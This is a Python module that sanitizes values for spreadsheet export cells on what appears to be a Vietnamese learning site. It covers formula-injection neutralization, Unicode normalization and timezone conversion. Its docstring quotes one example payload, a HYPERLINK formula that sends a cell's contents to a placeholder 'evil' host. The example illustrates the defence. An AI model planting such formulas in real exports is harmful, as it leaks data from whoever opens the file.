"""What goes into one cell of an export, whatever the format.

Safety: formula injection
    A learner can type ``=HYPERLINK("http://evil/?"&A1, "Bấm vào đây")`` as their name. If a
    spreadsheet program treats that cell as a formula when a teacher opens the export, the
    learner runs code in the teacher's spreadsheet. Every *text* cell therefore goes through
    :func:`neutralize`, which prefixes risky text with an apostrophe (the OWASP "CSV
    injection" rule). Real numbers, dates and booleans are written as such and never
    prefixed, so ``-3`` stays a number and still sums.

Text
    Text is NFC-normalized (some keyboards send Vietnamese letters decomposed into a base letter
    plus combining marks, which sort and search badly in spreadsheets) and control characters
    that XML cannot hold are dropped.

Times
    The database hands out timezone-aware UTC datetimes; exports show local wall-clock time.
    Aware datetimes are converted to ``tz`` (default ``Asia/Ho_Chi_Minh``, the site's
    ``BABEL_DEFAULT_TIMEZONE``); naive ones are taken to be local already.
"""
from __future__ import annotations

import math
import re
import unicodedata
from datetime import date, datetime, time, tzinfo
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

LOCAL_TZ = ZoneInfo("Asia/Ho_Chi_Minh")

#: First characters that make a spreadsheet program read a cell as a formula (``=``, ``+``,
#: ``-``, ``@``) or that can hide such a character at the start of a cell (tab, carriage return).
DANGEROUS_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

# Values that are not text: written as real numbers, dates or booleans, never prefixed.
# bool is a subclass of int and datetime a subclass of date, so both are covered.
_NOT_TEXT = (int, float, Decimal, date, time, type(None))

CONTROL_CHARACTERS = re.compile(r"[\x00-\x1f\x7f]")


def neutralize(value: Any) -> Any:
    """Make ``value`` safe to put in a spreadsheet cell.

    The rule:

    * text whose first character is ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a
      leading apostrophe, so Excel and LibreOffice show it as text instead of running it as a
      formula: ``"=1+2"`` becomes ``"'=1+2"``, and so does text that is merely ``"-"``;
    * other text, including the empty string, is returned unchanged;
    * numbers (``int``, ``float``, ``Decimal``), booleans, ``None``, dates, datetimes and times
      are returned unchanged: a real negative number stays a number;
    * anything else is turned into text first (``str(value)``) and then checked like text, so
      an object whose text starts with ``=`` cannot slip through.

    Subclasses of ``str`` (``Markup``, string enums) come back as plain ``str`` holding their
    characters: adding the apostrophe to a ``Markup`` would HTML-escape it.
    """
    if isinstance(value, str):
        text = value if type(value) is str else str.__str__(value)
        return "'" + text if text.startswith(DANGEROUS_PREFIXES) else text
    if isinstance(value, _NOT_TEXT):
        return value
    return neutralize(str(value))


def clean_text(value: Any) -> str:
    """Text as written to a file: plain str, NFC, without XML-illegal control characters."""
    if type(value) is str:
        text = value
    else:
        text = str.__str__(value) if isinstance(value, str) else str(value)
    return ILLEGAL_CHARACTERS_RE.sub("", unicodedata.normalize("NFC", text))


def safe_text(value: Any) -> str:
    """:func:`clean_text`, then :func:`neutralize`: what every text cell holds."""
    return neutralize(clean_text(value))


def is_number(value: Any) -> bool:
    return isinstance(value, (int, float, Decimal)) and not isinstance(value, bool)


def is_finite(value: Any) -> bool:
    """False for NaN and infinities, which no spreadsheet can store as a number."""
    if isinstance(value, float):
        return math.isfinite(value)
    if isinstance(value, Decimal):
        return value.is_finite()
    return True


def wall_clock(moment: datetime, tz: tzinfo) -> datetime:
    """Wall-clock time in ``tz`` without a zone (spreadsheets have no time zones)."""
    if moment.tzinfo is not None and moment.utcoffset() is not None:
        moment = moment.astimezone(tz)
    return moment.replace(tzinfo=None)
